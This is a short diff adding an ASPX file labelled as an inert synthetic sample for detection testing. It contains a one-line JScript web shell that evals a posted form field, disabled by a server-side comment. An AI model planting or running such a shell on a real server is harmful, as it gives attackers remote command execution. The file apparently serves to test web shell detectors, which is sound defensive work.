@@ -1,0 +1,4 @@
+<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
+<%@ Page Language="Jscript" Debug=false%>
+<% eval( Request.Form["k"] , 'unsafe' ); %>
+--%>
